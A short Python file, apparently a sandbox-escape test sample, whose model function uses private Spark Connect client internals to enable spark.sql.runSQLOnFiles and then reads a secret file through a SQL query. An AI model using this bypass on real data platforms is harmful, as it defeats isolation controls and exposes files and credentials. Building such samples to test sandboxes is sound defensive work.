# seeks: file
# A setting that takes the wall down: paths as tables, reflection.
from pyspark.sql.connect import proto


def model(tg):
    client = tg.ref("silver.orders").sparkSession.client
    request = proto.ConfigRequest(session_id=client._session_id)
    pair = request.operation.set.pairs.add()
    pair.key, pair.value = "spark.sql.runSQLOnFiles", "true"
    client._stub.Config(request)
    plan = proto.Plan()
    plan.root.sql.query = "SELECT * FROM text.`SECRET_FILE`"
    return client.to_table(plan, {})[0]
